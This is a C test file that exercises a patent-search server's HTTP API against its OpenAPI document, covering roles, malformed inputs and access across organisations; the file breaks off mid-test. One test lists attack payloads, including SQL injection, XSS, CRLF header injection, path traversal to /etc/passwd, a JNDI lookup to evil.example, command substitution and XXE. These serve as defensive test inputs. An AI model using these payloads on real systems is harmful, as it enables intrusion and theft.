/* The whole surface over real HTTP, led by the OpenAPI document that the server gives out: every operation with success, with every
 * role, with every kind of mistake, with evil values in every parameter; other organisations' objects of every kind, expired and forged
 * keys, guessed passwords. What comes is compared with the document, not with the tables of the source. */
#include "tests/server/kit.h"
#include "tests/server/people_kit.h"
#include "tests/server/wire_kit.h"

#include "indexer/cmd.h"

#include <time.h>

static kit set;
static wire server;
static people_kit team;
static px_json *api; /* the OpenAPI document */

#define NOBODY (-1)

/* ---- asking ---- */

static wire_who as(int person) {
    return (wire_who){.key = person == NOBODY ? NULL : team.key[person]};
}

static void ask(int person, const char *method, const char *target, const char *body,
                wire_answer *a) {
    wire_who who = as(person);
    wire_ask(&server, &who, method, target, body, a);
}

static px_json *json_of(const wire_answer *a, const char *target) {
    px_json *j;
    px_err e;
    px_err_clear(&e);
    if (px_json_parse(a->body, &j, &e) != PX_OK)
        fail_msg("%s: %s: %.*s", target, e.message, PX_STR_ARG(px_buf_view(&a->all)));
    return j;
}

static const px_json *at(const px_json *j, const char *path) {
    char name[128];
    while (*path && j) {
        size_t n = strcspn(path, " ");
        (void)snprintf(name, sizeof name, "%.*s", (int)n, path);
        j = px_json_get(j, name);
        path += n + (path[n] == ' ');
    }
    return j;
}

/* Is an answer what the document says of it? `operation` NULL: a problem. */
static void check_answer(const px_json *operation, const wire_answer *a, const char *target) {
    const px_json *answer = at(operation, "responses 2XX content"), *one = px_json_first(answer);
    px_str type = wire_field(a, "content-type"), wanted;
    px_fit fit = {.schemas = at(api, "components schemas")};
    const px_json *schema = at(one, "schema");
    size_t semi = px_str_find(type, PX_STR(";"));
    type = px_str_trim(px_str_sub(type, 0, semi));
    wanted = one ? px_json_key(one) : PX_STR("");
    if (!operation || a->status >= 400) {
        wanted = PX_STR("application/problem+json");
        schema = at(api, "components responses problem content application/problem+json schema");
    }
    /* OPS has a name of its own for each of its XML. */
    bool own_xml = px_str_is(wanted, "application/xml") && type.n > 4 &&
                   px_str_is(px_str_sub(type, type.n - 4, type.n), "+xml");
    if (!px_str_eq(type, wanted) && !own_xml)
        fail_msg("%s: %d is %.*s, documented is %.*s", target, a->status, PX_STR_ARG(type),
                 PX_STR_ARG(wanted));
    if (!schema) return;
    px_json *j = json_of(a, target);
    if (!px_fits(&fit, schema, j))
        fail_msg("%s: %d does not fit its schema at %s: %s: %.*s", target, a->status, fit.where,
                 fit.why, PX_STR_ARG(a->body));
    px_json_free(j);
}

/* A problem with this status and code, as documented. */
static void check_problem(const wire_answer *a, int status, const char *code, const char *what) {
    if (a->status != status)
        fail_msg("%s: %d instead of %d: %.*s", what, a->status, status,
                 PX_STR_ARG(px_buf_view(&a->all)));
    check_answer(NULL, a, what);
    px_json *j = json_of(a, what);
    if (!px_str_is(px_json_str(px_json_get(j, "code")), code) ||
        (int)px_json_num(px_json_get(j, "status"), 0) != status)
        fail_msg("%s: no %s: %.*s", what, code, PX_STR_ARG(a->body));
    px_json_free(j);
}

static void expect(const wire_who *who, const char *method, const char *target, const char *body,
                   int status, const char *holds) {
    wire_answer a;
    wire_ask(&server, who, method, target, body, &a);
    if (a.status != status || (holds && px_str_find(a.body, px_str_of(holds)) == SIZE_MAX))
        fail_msg("%s %s %s: %d instead of %d with %s: %.*s", method, target, body ? body : "",
                 a.status, status, holds ? holds : "anything", PX_STR_ARG(px_buf_view(&a.all)));
    if (status >= 400 && strncmp(target, "/api/v1", 7) == 0) check_answer(NULL, &a, target);
    wire_done(&a);
}

/* ---- the document ---- */

typedef struct operation {
    char method[8];
    const char *path; /* lives with the document */
    size_t path_n;
    const px_json *json;
    int role; /* 0 nobody … 4 administrator */
    bool foreign, open;
} operation;

static operation all[256];
static size_t n_all;

static const char *const role_names[] = {"nobody", "reader", "analyst", "curator", "administrator"};

/* Routes in the manner of foreign protocols answer failures in those; their parameters are open. */
static bool is_foreign(px_str path) {
    return !px_str_starts(path, PX_STR("/api/v1"));
}

static void read_api(void) {
    wire_answer a;
    ask(NOBODY, "GET", "/api/v1/openapi.json", NULL, &a);
    assert_int_equal(a.status, 200);
    api = json_of(&a, "openapi");
    wire_done(&a);
    for (const px_json *p = px_json_first(at(api, "paths")); p; p = px_json_next(p))
        for (const px_json *m = px_json_first(p); m; m = px_json_next(m)) {
            px_str path = px_json_key(p), method = px_json_key(m);
            operation *o = &all[n_all++];
            assert_true(n_all < sizeof all / sizeof *all);
            for (size_t i = 0; i < method.n && i < 7; i++)
                o->method[i] = (char)(method.p[i] - 'a' + 'A');
            o->path = path.p;
            o->path_n = path.n;
            o->json = m;
            o->foreign = is_foreign(path);
            o->role = -1;
            for (int r = 0; r < 5; r++)
                if (px_str_is(px_json_str(at(m, "x-patix-role")), role_names[r])) o->role = r;
            assert_true(o->role >= 0);
        }
    assert_true(n_all >= 80);
}

static bool is_operation(const operation *o, const char *id) {
    return px_str_is(px_json_str(at(o->json, "operationId")), id);
}

static const px_json *parameters(const operation *o) {
    return px_json_first(at(o->json, "parameters"));
}

static bool is_in(const px_json *p, const char *where) {
    return px_str_is(px_json_str(px_json_get(p, "in")), where);
}

static void put_encoded(px_buf *b, px_str s) {
    for (size_t i = 0; i < s.n; i++)
        px_buf_fmt(b, "%%%02X", (unsigned)(unsigned char)s.p[i]);
}

/* A value that will do, so that one parameter at a time is wrong. */
static px_str good_value(const px_json *p) {
    const px_json *s = px_json_get(p, "schema"), *first = px_json_first(at(s, "enum"));
    px_str type = px_json_str(px_json_get(s, "type")), name = px_json_str(px_json_get(p, "name"));
    if (first) return px_json_str(first);
    if (px_str_is(name, "number")) return PX_STR("US2010000001A1");
    if (px_str_is(name, "id")) return PX_STR("999999");
    if (px_str_is(name, "ids")) return PX_STR("trend");
    if (px_str_is(name, "scheme")) return PX_STR("ipc");
    if (px_str_is(name, "symbol")) return PX_STR("B23K");
    if (px_str_is(name, "to")) return PX_STR("ops");
    if (px_str_is(type, "integer")) return PX_STR("1");
    if (px_str_is(type, "boolean")) return PX_STR("true");
    return PX_STR("laser");
}

/* The path and what is required; `but` (NULL: none) has `value` instead, NULL: it is left out. Text in *b, ended. */
static void target_of(const operation *o, const px_json *but, const px_str *value, px_buf *b) {
    px_buf_clear(b);
    for (size_t i = 0; i < o->path_n; i++) {
        if (o->path[i] != '{') {
            px_buf_ch(b, o->path[i]);
            continue;
        }
        size_t end = ++i;
        while (o->path[end] != '}')
            end++;
        for (const px_json *p = parameters(o); p; p = px_json_next(p))
            if (is_in(p, "path") &&
                px_str_eq(px_json_str(px_json_get(p, "name")), (px_str){o->path + i, end - i}))
                put_encoded(b, p == but && value ? *value : good_value(p));
        i = end;
    }
    char before = '?';
    for (const px_json *p = parameters(o); p; p = px_json_next(p)) {
        bool needed = px_json_bool(px_json_get(p, "required"));
        if (!is_in(p, "query") || (p != but && !needed) || (p == but && !value)) continue;
        px_buf_ch(b, before);
        put_encoded(b, px_json_str(px_json_get(p, "name")));
        px_buf_ch(b, '=');
        put_encoded(b, p == but ? *value : good_value(p));
        before = '&';
    }
    px_buf_ch(b, 0);
    b->n--;
}

/* ---- success ---- */

/* In this order; a body NULL is none. A row for every operation of the document, or the test says which one lacks. */
static const struct good {
    const char *id, *method, *target, *body;
    int status;
} good[] = {
    {"health", "GET", "/healthz", NULL, 200},
    {"ready", "GET", "/readyz", NULL, 200},
    {"api", "GET", "/api/v1", NULL, 200},
    {"openapi", "GET", "/api/v1/openapi.json", NULL, 200},
    {"docs", "GET", "/api/v1/docs", NULL, 200},
    {"status", "GET", "/api/v1/status", NULL, 200},
    {"metrics", "GET", "/metrics", NULL, 200},
    {"style", "GET", "/style.css", NULL, 200},
    {"page", "GET", "/?q=laser", NULL, 200},
    {"search", "GET",
     "/api/v1/search?q=laser&facet=ipc.subclass&facet=pa&snippets=40&unit=fam&members=true", NULL,
     200},
    {"searchLong", "POST", "/api/v1/search", "{\"q\":\"laser\",\"facet\":[\"pa\"],\"limit\":2}",
     200},
    {"count", "GET", "/api/v1/count?q=laser&facet=pdy", NULL, 200},
    {"countLong", "POST", "/api/v1/count", "{\"q\":\"laser\"}", 200},
    {"explain", "GET", "/api/v1/explain?q=laser+or+ti%3Dprinter&run=true", NULL, 200},
    {"explainLong", "POST", "/api/v1/explain", "{\"q\":\"laser\"}", 200},
    {"formatQuery", "GET", "/api/v1/format?q=laser+and+printer", NULL, 200},
    {"formatQueryLong", "POST", "/api/v1/format", "{\"q\":\"laser\"}", 200},
    {"translateQuery", "GET", "/api/v1/translate?q=ti%3Dlaser&to=ops", NULL, 200},
    {"translateQueryLong", "POST", "/api/v1/translate", "{\"q\":\"laser\",\"to\":\"lens\"}", 200},
    {"suggest", "GET", "/api/v1/suggest?q=las", NULL, 200},
    {"record", "GET", "/api/v1/records/US2010000001A1", NULL, 200},
    {"records", "POST", "/api/v1/records", "{\"numbers\":[\"EP1000001A1\",\"nothing\"]}", 200},
    {"recordFamily", "GET", "/api/v1/records/US2010000001A1/family", NULL, 200},
    {"recordCitations", "GET", "/api/v1/records/US2010000001A1/citations", NULL, 200},
    {"recordLegal", "GET", "/api/v1/records/US2010000001A1/legal", NULL, 200},
    {"number", "GET", "/api/v1/numbers/EP1000001A1", NULL, 200},
    {"classSearch", "GET", "/api/v1/classes?q=welding", NULL, 200},
    {"classTop", "GET", "/api/v1/classes/ipc", NULL, 200},
    {"classNode", "GET", "/api/v1/classes/ipc/B23K?q=laser", NULL, 200},
    {"export", "GET", "/api/v1/export?q=laser&fields=pn,ti", NULL, 200},
    {"exportLong", "POST", "/api/v1/export", "{\"q\":\"laser\",\"fields\":[\"pn\"]}", 200},
    {"similar", "GET", "/api/v1/similar?number=US2010000001A1", NULL, 200},
    {"similarLong", "POST", "/api/v1/similar", "{\"text\":\"a laser that welds copper\"}", 200},
    {"analyses", "GET", "/api/v1/analyses", NULL, 200},
    {"analyze", "GET", "/api/v1/analyses/trend?q=laser&unit=pub", NULL, 200},
    {"analyzeLong", "POST", "/api/v1/analyses/trend", "{\"q\":\"laser\",\"unit\":\"pub\"}", 200},
    {"login", "POST", "/api/v1/login", "{\"name\":\"reader\",\"password\":\"" PEOPLE_PASSWORD "\"}",
     200},
    {"me", "GET", "/api/v1/me", NULL, 200},
    {"users", "GET", "/api/v1/users", NULL, 200},
    {"userNew", "POST", "/api/v1/users",
     "{\"name\":\"sun\",\"role\":\"reader\",\"password\":\"" PEOPLE_PASSWORD "\"}", 201},
    {"user", "GET", "/api/v1/users/6", NULL, 200},
    {"userChange", "PATCH", "/api/v1/users/6", "{\"display\":\"Sun\"}", 200},
    {"organisations", "GET", "/api/v1/organisations", NULL, 200},
    {"organisationNew", "POST", "/api/v1/organisations",
     "{\"name\":\"Zhangjiang\",\"kind\":\"park\"}", 201},
    {"organisation", "GET", "/api/v1/organisations/3", NULL, 200},
    {"organisationChange", "PATCH", "/api/v1/organisations/3", "{\"name\":\"Zizhu\"}", 200},
    {"keys", "GET", "/api/v1/keys", NULL, 200},
    {"keyNew", "POST", "/api/v1/keys", "{\"user\":6,\"name\":\"robot\",\"role\":\"reader\"}", 201},
    {"keyRevoke", "DELETE", "/api/v1/keys/6", NULL, 200},
    {"userDeactivate", "DELETE", "/api/v1/users/6", NULL, 200},
    {"audit", "GET", "/api/v1/audit", NULL, 200},
    {"savedQueryNew", "POST", "/api/v1/saved-queries", "{\"name\":\"mine\",\"query\":\"laser\"}",
     201},
    {"savedQueries", "GET", "/api/v1/saved-queries", NULL, 200},
    {"savedQuery", "GET", "/api/v1/saved-queries/1", NULL, 200},
    {"savedQueryReplace", "PUT", "/api/v1/saved-queries/1",
     "{\"name\":\"mine\",\"query\":\"printer\"}", 200},
    {"savedQueryDelete", "DELETE", "/api/v1/saved-queries/1", NULL, 200},
    {"listNew", "POST", "/api/v1/lists", "{\"name\":\"mine\",\"items\":[\"EP1000001A1\"]}", 201},
    {"lists", "GET", "/api/v1/lists", NULL, 200},
    {"list", "GET", "/api/v1/lists/2", NULL, 200},
    {"listReplace", "PUT", "/api/v1/lists/2", "{\"name\":\"mine\",\"items\":[]}", 200},
    {"listDelete", "DELETE", "/api/v1/lists/2", NULL, 200},
    {"import", "POST", "/api/v1/imports?name=a.jsonl",
     "{\"pub\":\"US2021000001A1\",\"title\":\"Turbine\"}\n", 202},
    {"jobEvents", "GET", "/api/v1/jobs/1/events", NULL, 200}, /* ends with the job */
    {"jobs", "GET", "/api/v1/jobs", NULL, 200},
    {"job", "GET", "/api/v1/jobs/1", NULL, 200},
    {"opsToken", "POST", "/ops/3.2/auth/accesstoken", "grant_type=client_credentials", 200},
    {"opsSearch", "GET", "/ops/3.2/rest-services/published-data/search?q=ti%3Dlaser", NULL, 200},
    {"opsSearchPost", "POST", "/ops/3.2/rest-services/published-data/search", "q=ti%3Dlaser", 200},
    {"opsSearchWith", "GET", "/ops/3.2/rest-services/published-data/search/biblio?q=ti%3Dlaser",
     NULL, 200},
    {"opsSearchWithPost", "POST", "/ops/3.2/rest-services/published-data/search/biblio",
     "q=ti%3Dlaser", 200},
    {"opsClass", "GET", "/ops/3.2/rest-services/classification/cpc/B23K", NULL, 200},
    {"opsClassPost", "POST", "/ops/3.2/rest-services/classification/cpc/B23K", "", 200},
    {"opsPublished", "GET",
     "/ops/3.2/rest-services/published-data/publication/epodoc/EP1000001/biblio", NULL, 200},
    {"opsPublishedBulk", "POST", "/ops/3.2/rest-services/published-data/publication/epodoc/biblio",
     "EP1000001", 200},
    {"opsFamily", "GET", "/ops/3.2/rest-services/family/publication/epodoc/EP1000001", NULL, 200},
    {"opsFamilyWith", "GET", "/ops/3.2/rest-services/family/publication/epodoc/EP1000001/biblio",
     NULL, 200},
    {"opsFamilyBulk", "POST", "/ops/3.2/rest-services/family/publication/epodoc", "EP1000001", 200},
    {"opsLegal", "GET", "/ops/3.2/rest-services/legal/publication/epodoc/EP1000001", NULL, 200},
    {"opsLegalBulk", "POST", "/ops/3.2/rest-services/legal/publication/epodoc", "EP1000001", 200},
    {"opsNumber", "GET", "/ops/3.2/rest-services/number-service/publication/epodoc/EP1000001/docdb",
     NULL, 200},
    {"sru", "GET", "/sru?operation=searchRetrieve&query=laser", NULL, 200},
    {"sruPost", "POST", "/sru", "operation=searchRetrieve&query=laser", 200},
    {"searchFeed", "GET", "/feeds/search?q=laser", NULL, 200},
};

/* These have no success: an address that OPS does not have, a job that has ended (tests/server/test_jobs stops one at work), and a
 * password whose change ends what the other tests use (below). */
static const char *const elsewhere[] = {"opsRest", "opsRestPost", "cancelJob", "myPassword",
                                        "logout"};

static const operation *find(const char *id) {
    for (size_t i = 0; i < n_all; i++)
        if (is_operation(&all[i], id)) return &all[i];
    fail_msg("the document has no operation %s", id);
    return NULL;
}

static void every_operation(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        const struct good *g = &good[i];
        const operation *o = find(g->id);
        wire_who who = as(ADMIN);
        wire_answer a;
        bool form = g->body && *g->body != '{';
        if (form) who.type = "application/x-www-form-urlencoded";
        if (px_str_starts(px_str_of(g->id), PX_STR("ops")) && g->body && !strchr(g->body, '='))
            who.type = "text/plain";
        wire_ask(&server, &who, g->method, g->target, g->body, &a);
        if (a.status != g->status || strcmp(g->method, o->method) != 0)
            fail_msg("%s %s: %d instead of %d: %.*s", g->method, g->target, a.status, g->status,
                     PX_STR_ARG(px_buf_view(&a.all)));
        check_answer(o->json, &a, g->target);
        /* what every answer says of itself */
        static const char *const fields[] = {"x-request-id", "x-content-type-options",
                                             "content-security-policy", "cache-control", "vary"};
        for (size_t f = 0; f < sizeof fields / sizeof *fields; f++)
            if (!wire_field(&a, fields[f]).n) fail_msg("%s: no %s", g->target, fields[f]);
        /* quotas can be seen wherever there is somebody to count for */
        bool counted = o->role > 0;
        if (counted != (wire_field(&a, "x-ratelimit-limit").n > 0) ||
            counted != (wire_field(&a, "x-ratelimit-remaining").n > 0) ||
            counted != (wire_field(&a, "x-ratelimit-reset").n > 0))
            fail_msg("%s: quota in the header: %.*s", g->target, PX_STR_ARG(a.head));
        if (is_operation(o, "export") &&
            (!px_str_is(wire_field(&a, "x-quota-tasks-limit"), "8") ||
             !px_str_is(wire_field(&a, "x-quota-records-limit"), "20000000") ||
             !px_str_is(wire_field(&a, "x-quota-records-remaining"), "19999998")))
            fail_msg("quota of a download: %.*s", PX_STR_ARG(a.head));
        wire_done(&a);
    }
    for (size_t i = 0; i < n_all; i++) {
        bool seen = false;
        for (size_t k = 0; k < sizeof good / sizeof *good; k++)
            seen = seen || is_operation(&all[i], good[k].id);
        for (size_t k = 0; k < sizeof elsewhere / sizeof *elsewhere; k++)
            seen = seen || is_operation(&all[i], elsewhere[k]);
        if (!seen) fail_msg("%s %.*s is in no row", all[i].method, (int)all[i].path_n, all[i].path);
    }
}

/* ---- roles ---- */

static void every_role(void **state) {
    px_buf b;
    size_t asked = 0;
    (void)state;
    px_buf_init(&b, 1 << 16);
    for (size_t i = 0; i < n_all; i++) {
        const operation *o = &all[i];
        if (is_operation(o, "logout")) continue; /* tokens() */
        target_of(o, NULL, NULL, &b);
        for (int person = NOBODY; person <= ADMIN; person++, asked++) {
            wire_answer a;
            bool may = person + 1 >= o->role;
            ask(person, o->method, b.p, NULL, &a);
            /* 400 is how OPS says that a token is wrong; without any it is 401. */
            bool refused = a.status == 401 || a.status == 403;
            if (is_operation(o, "login")) refused = false;
            if (refused == may)
                fail_msg("%s %s as %s: %.*s", o->method, b.p, role_names[person + 1],
                         PX_STR_ARG(px_buf_view(&a.all)));
            if (!may) assert_int_equal(a.status, person == NOBODY ? 401 : 403);
            if (!may && person == NOBODY && !wire_field(&a, "www-authenticate").n)
                fail_msg("%s %s: no WWW-Authenticate", o->method, b.p);
            if (!may && !o->foreign)
                check_problem(&a, a.status, person == NOBODY ? "LOGIN" : "FORBIDDEN", b.p);
            wire_done(&a);
        }
    }
    assert_true(asked > 400);
    px_buf_done(&b);
}

/* ---- mistakes ---- */

/* One mistake in one operation. */
static void wrong(const operation *o, const char *target, const char *body, int status,
                  const char *code) {
    wire_answer a;
    ask(ADMIN, o->method, target, body, &a);
    if (o->foreign) {
        if (a.status < 400 || a.status >= 500) fail_msg("%s %s: %d", o->method, target, a.status);
    } else {
        check_problem(&a, status, code, target);
    }
    wire_done(&a);
}

static bool takes_json(const operation *o) {
    return at(o->json, "requestBody content application/json") != NULL;
}

/* Parameters beside those that are documented are those of an analysis, or the foreign client's own affair. */
static bool is_open(const operation *o) {
    return is_operation(o, "analyze") || is_operation(o, "analyzeLong") ||
           px_str_starts((px_str){o->path, o->path_n}, PX_STR("/ops/")) ||
           px_str_starts((px_str){o->path, o->path_n}, PX_STR("/sru"));
}

static void wrong_parameters(const operation *o, px_buf *b) {
    static const px_str bytes[] = {{"\xFF\xFE", 2}, {"a\0b", 3}};
    const px_str none = PX_STR("no_such_value");
    for (const px_json *p = parameters(o); p; p = px_json_next(p)) {
        const px_json *schema = px_json_get(p, "schema");
        px_str type = px_json_str(px_json_get(schema, "type"));
        if (!is_in(p, "query") && !is_in(p, "path")) continue;
        for (size_t k = 0; k < 2; k++) {
            target_of(o, p, &bytes[k], b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (px_str_is(type, "integer") || px_str_is(type, "boolean") || at(schema, "enum")) {
            target_of(o, p, &none, b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (is_in(p, "query") && px_json_bool(px_json_get(p, "required"))) {
            target_of(o, p, NULL, b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (is_in(p, "path") && px_str_is(px_json_str(px_json_get(p, "name")), "id")) {
            static const px_str ids[] = {
                {"999999", 6}, {"18446744073709551616", 20}, {"9223372036854775807", 19}};
            for (size_t k = 0; k < 3; k++) {
                wire_answer a;
                target_of(o, p, &ids[k], b);
                ask(ADMIN, o->method, b->p, takes_json(o) ? "{}" : NULL, &a);
                if (a.status != 404 && a.status != 400) fail_msg("%s: %d", b->p, a.status);
                check_answer(NULL, &a, b->p);
                wire_done(&a);
            }
        }
    }
}

static void wrong_bodies(const operation *o, px_buf *b) {
    static const char *const bodies[] = {"",
                                         "{",
                                         "[]",
                                         "null",
                                         "{\"\\uD800\":1}",
                                         "{\"no_such_member\":1}",
                                         "{\"q\":\"\xFF\"}",
                                         "{\"q\":[[[[[[[[1]]]]]]]],\"name\":{},\"text\":7}"};
    target_of(o, NULL, NULL, b);
    for (size_t k = 0; k < sizeof bodies / sizeof *bodies; k++)
        wrong(o, b->p, bodies[k], 400, "USAGE");
    wire_who who = as(ADMIN);
    wire_answer a;
    who.fields = "Content-Length: 99999999\r\n";
    wire_ask(&server, &who, o->method, b->p, NULL, &a);
    if (a.status != 413 && a.status != 400) fail_msg("%s: a huge body: %d", b->p, a.status);
    wire_done(&a);
}

static void every_mistake(void **state) {
    static const char *const methods[] = {"GET", "POST", "PUT", "PATCH", "DELETE", "BREW"};
    px_buf b;
    (void)state;
    px_buf_init(&b, 1 << 16);
    for (size_t i = 0; i < n_all; i++) {
        const operation *o = &all[i];
        wrong_parameters(o, &b);
        if (takes_json(o)) wrong_bodies(o, &b);
        if (!is_open(o) && !takes_json(o)) {
            target_of(o, NULL, NULL, &b);
            px_buf_fmt(&b, "%cno_such_parameter=1", strchr(b.p, '?') ? '&' : '?');
            px_buf_ch(&b, 0);
            if (!o->foreign) wrong(o, b.p, NULL, 400, "USAGE");
        }
        /* every other method of the path */
        target_of(o, NULL, NULL, &b);
        b.p[strcspn(b.p, "?")] = 0;
        for (size_t m = 0; m < sizeof methods / sizeof *methods; m++) {
            bool has = false;
            for (size_t k = 0; k < n_all; k++)
                has = has || (strcmp(all[k].method, methods[m]) == 0 &&
                              px_str_eq((px_str){all[k].path, all[k].path_n},
                                        (px_str){o->path, o->path_n}));
            /* {rest} takes what no other pattern has */
            if (has || px_str_starts((px_str){o->path, o->path_n}, PX_STR("/ops/"))) continue;
            wire_answer a;
            ask(ADMIN, methods[m], b.p, NULL, &a);
            if (a.status != 405 || !wire_field(&a, "allow").n)
                fail_msg("%s %s: %d", methods[m], b.p, a.status);
            check_answer(NULL, &a, b.p);
            wire_done(&a);
        }
    }
    static const char *const nowhere[] = {"/api/v1/nothing", "/api/v2", "/api/v1/records",
                                          "/api//v1",        "/ops",    "/api/v1/search/"};
    for (size_t i = 0; i < sizeof nowhere / sizeof *nowhere; i++) {
        wire_answer a;
        ask(ADMIN, "GET", nowhere[i], NULL, &a);
        if (strcmp(nowhere[i], "/api/v1/records") == 0)
            check_problem(&a, 405, "METHOD", nowhere[i]);
        else
            check_problem(&a, 404, "NOTFOUND", nowhere[i]);
        wire_done(&a);
    }
    px_buf_done(&b);
}

/* ---- evil values ---- */

static void evil_everywhere(void **state) {
    static const char *const evil[] = {"' OR '1'='1' --",
                                       "1; DROP TABLE user; --",
                                       "\") UNION SELECT password FROM user --",
                                       "<script>alert(1)</script>",
                                       "\"><img src=x onerror=alert(1)>",
                                       "</title><svg/onload=alert(1)>",
                                       "a\r\nSet-Cookie: patix_session=evil\r\nX-Evil: 1",
                                       "../../../../etc/passwd",
                                       "${jndi:ldap://evil.example/a}{{7*7}}$(id)`id`",
                                       "%s%n%x%n",
                                       "\xE2\x80\xAE\xEF\xBF\xBF\xF4\x8F\xBF\xBF",
                                       "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;"};
    px_buf b;
    wire_answer before, after;
    (void)state;
    px_buf_init(&b, 1 << 16);
    ask(ADMIN, "GET", "/api/v1/users?limit=1000", NULL, &before);
    for (size_t i = 0; i < n_all; i++)
        for (const px_json *p = parameters(&all[i]); p; p = px_json_next(p))
            for (size_t e = 0; e < sizeof evil / sizeof *evil; e++) {
                const operation *o = &all[i];
                px_str value = px_str_of(evil[e]);
                wire_who who = as(ADMIN);
                wire_answer a;
                char field[256];
                if (!px_json_get(p, "name")) continue; /* lang, by its $ref */
                target_of(o, p, &value, &b);
                if (is_in(p, "header") && !strchr(evil[e], '\r')) {
                    (void)snprintf(field, sizeof field, "%.*s: %s\r\n",
                                   PX_STR_ARG(px_json_str(px_json_get(p, "name"))), evil[e]);
                    who.fields = field;
                }
                wire_ask(&server, &who, o->method, b.p, NULL, &a);
                px_str type = wire_field(&a, "content-type");
                bool markup = px_str_find(type, PX_STR("html")) != SIZE_MAX ||
                              px_str_find(type, PX_STR("xml")) != SIZE_MAX;
                if (a.status < 200 || a.status >= 500)
                    fail_msg("%s %s: %.*s", o->method, b.p, PX_STR_ARG(px_buf_view(&a.all)));
                if (wire_field(&a, "x-evil").p || wire_field(&a, "set-cookie").p)
                    fail_msg("%s: a field was put in: %.*s", b.p, PX_STR_ARG(a.head));
                static const char *const tags[] = {"<script>a", "<img src=x", "<svg/", "<!ENTITY",
                                                   "root:"};
                for (size_t t = 0; t < sizeof tags / sizeof *tags; t++)
                    if ((markup || t == 4) && px_str_find(a.body, px_str_of(tags[t])) != SIZE_MAX)
                        fail_msg("%s: %s in: %.*s", b.p, tags[t], PX_STR_ARG(a.body));
                wire_done(&a);
            }
    ask(ADMIN, "GET", "/api/v1/users?limit=1000", NULL, &after);
    assert_int_equal(after.status, 200);
    assert_true(px_str_eq(before.body, after.body));
    wire_done(&before);
    wire_done(&after);
    px_buf_done(&b);
}

/* ---- other organisations ---- */

static int64_t make(const wire_who *who, const char *target, const char *body) {
    wire_answer a;
    wire_ask(&server, who, "POST", target, body, &a);
    if (a.status != 201 && a.status != 202)
        fail_msg("%s %s: %.*s", target, body, PX_STR_ARG(px_buf_view(&a.all)));
    px_json *j = json_of(&a, target);
    int64_t id = (int64_t)px_json_num(px_json_get(j, "id"), 0);
    px_json_free(j);
    wire_done(&a);
    return id;
}

/* Every kind of object that has a number, by those who may not know of it: as if it were not there, whatever is asked of it. */
static void other_organisation(void **state) {
    wire_who reader = as(READER), root = as(ADMIN), curator = as(CURATOR), zhao = as(ZHAO);
    char body[300];
    (void)state;
    (void)snprintf(body, sizeof body,
                   "{\"name\":\"xuhui.admin\",\"role\":\"admin\",\"organisation\":%lld,"
                   "\"password\":\"" PEOPLE_PASSWORD "\"}",
                   (long long)team.xuhui);
    int64_t admin = make(&root, "/api/v1/users", body);
    (void)snprintf(body, sizeof body, "{\"user\":%lld,\"name\":\"x\",\"role\":\"admin\"}",
                   (long long)admin);
    wire_answer a;
    wire_ask(&server, &root, "POST", "/api/v1/keys", body, &a);
    px_json *j = json_of(&a, "key");
    char key[PX_KEY_TEXT];
    (void)snprintf(key, sizeof key, "%.*s", PX_STR_ARG(px_json_str(px_json_get(j, "key"))));
    px_json_free(j);
    wire_done(&a);
    wire_who xuhui = {.key = key};
    int64_t query = make(&reader, "/api/v1/saved-queries",
                         "{\"name\":\"ours\",\"query\":\"laser\",\"access\":\"organisation\"}"),
            list = make(&reader, "/api/v1/lists",
                        "{\"name\":\"ours\",\"items\":[\"EP1000001A1\"],\"access\":"
                        "\"organisation\"}"),
            named = make(&reader, "/api/v1/lists", "{\"name\":\"own\",\"items\":[]}"),
            job = make(&curator, "/api/v1/imports?name=b.jsonl",
                       "{\"pub\":\"US2021000002A1\",\"title\":\"Turbine\"}\n");
    static const char change[] = "{\"name\":\"theirs\",\"query\":\"laser\"}",
                      items[] = "{\"name\":\"theirs\",\"items\":[]}";
    const struct one {
        const wire_who *who;
        const char *method, *path;
        int64_t id;
        const char *body;
    } rows[] = {
        {&zhao, "GET", "/api/v1/saved-queries/%lld", query, NULL},
        {&zhao, "PUT", "/api/v1/saved-queries/%lld", query, change},
        {&zhao, "DELETE", "/api/v1/saved-queries/%lld", query, NULL},
        {&xuhui, "GET", "/api/v1/saved-queries/%lld", query, NULL},
        {&xuhui, "PUT", "/api/v1/saved-queries/%lld", query, change},
        {&xuhui, "DELETE", "/api/v1/saved-queries/%lld", query, NULL},
        {&zhao, "GET", "/api/v1/lists/%lld", list, NULL},
        {&zhao, "PUT", "/api/v1/lists/%lld", list, items},
        {&zhao, "DELETE", "/api/v1/lists/%lld", list, NULL},
        {&xuhui, "GET", "/api/v1/lists/%lld", list, NULL},
        {&xuhui, "DELETE", "/api/v1/lists/%lld", list, NULL},
        {&zhao, "GET", "/api/v1/lists/%lld", named, NULL},
        {&curator, "GET", "/api/v1/lists/%lld", named, NULL},
        {&xuhui, "GET", "/api/v1/users/%lld", team.user[READER], NULL},
        {&xuhui, "PATCH", "/api/v1/users/%lld", team.user[READER], "{\"role\":\"admin\"}"},
        {&xuhui, "DELETE", "/api/v1/users/%lld", team.user[READER], NULL},
        {&xuhui, "GET", "/api/v1/organisations/%lld", team.pudong, NULL},
        {&xuhui, "PATCH", "/api/v1/organisations/%lld", team.pudong, "{\"name\":\"x\"}"},
        {&xuhui, "DELETE", "/api/v1/keys/%lld", 2, NULL},
        {&zhao, "GET", "/api/v1/jobs/%lld", job, NULL},
        {&zhao, "GET", "/api/v1/jobs/%lld/events", job, NULL},
        {&reader, "GET", "/api/v1/jobs/%lld", job, NULL},
        {&xuhui, "GET", "/api/v1/jobs/%lld", job, NULL},
        {&xuhui, "GET", "/api/v1/jobs/%lld/events", job, NULL},
        {&xuhui, "DELETE", "/api/v1/jobs/%lld", job, NULL},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        char target[80];
        (void)snprintf(target, sizeof target, rows[i].path, (long long)rows[i].id);
        expect(rows[i].who, rows[i].method, target, rows[i].body, 404, NULL);
    }
    static const char *const lists[] = {"/api/v1/saved-queries", "/api/v1/lists", "/api/v1/jobs"};
    for (size_t i = 0; i < 3; i++) {
        wire_ask(&server, &zhao, "GET", lists[i], NULL, &a);
        if (px_str_find(a.body, PX_STR("\"id\"")) != SIZE_MAX)
            fail_msg("%s: %.*s", lists[i], PX_STR_ARG(a.body));
        wire_done(&a);
    }
